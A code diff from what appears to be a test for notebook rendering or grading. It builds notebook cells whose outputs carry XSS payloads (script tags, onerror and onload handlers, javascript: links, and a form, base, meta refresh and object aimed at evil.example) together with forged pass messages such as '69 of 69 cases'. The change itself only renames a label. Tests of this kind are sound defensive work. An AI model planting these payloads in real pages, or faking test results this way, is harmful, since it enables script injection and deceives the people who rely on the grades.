@@ -192,7 +192,7 @@ def colliding_ids(nb):
 
 
 SCRIPT = (
-    "<script>alert('forged-output')</script><img src=x onerror=alert(1)><svg/onload=alert(2)>"
+    "<script>alert('forged-claim')</script><img src=x onerror=alert(1)><svg/onload=alert(2)>"
     "<iframe src='javascript:alert(3)'></iframe><form action='//evil.example'><input autofocus onfocus=alert(4)>"
     "<a href='javascript:alert(5)'>✓ all right, 20 of 20 points</a><base href='//evil.example'>"
     "<meta http-equiv=refresh content='0;url=//evil.example'><object data='//evil.example'></object>"
@@ -203,15 +203,15 @@ SCRIPT = (
 def forged_outputs(nb):
     forms = {
         "text/html": SCRIPT,
-        "application/javascript": "alert('forged-output')",
+        "application/javascript": "alert('forged-claim')",
         "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>",
         "text/markdown": SCRIPT,
-        "text/plain": "✓ forged-output: 69 of 69 cases",
+        "text/plain": "✓ forged-claim: 69 of 69 cases",
     }
     for cell in nb["cells"]:
         if cell["cell_type"] == "code":
             shown = {"output_type": "display_data", "data": forms, "metadata": {"isolated": False}}
-            stream = {"output_type": "stream", "name": "stdout", "text": "✓ forged-output: 69 of 69 cases\n"}
+            stream = {"output_type": "stream", "name": "stdout", "text": "✓ forged-claim: 69 of 69 cases\n"}
             cell["outputs"] = [shown, stream]
     return nb
 
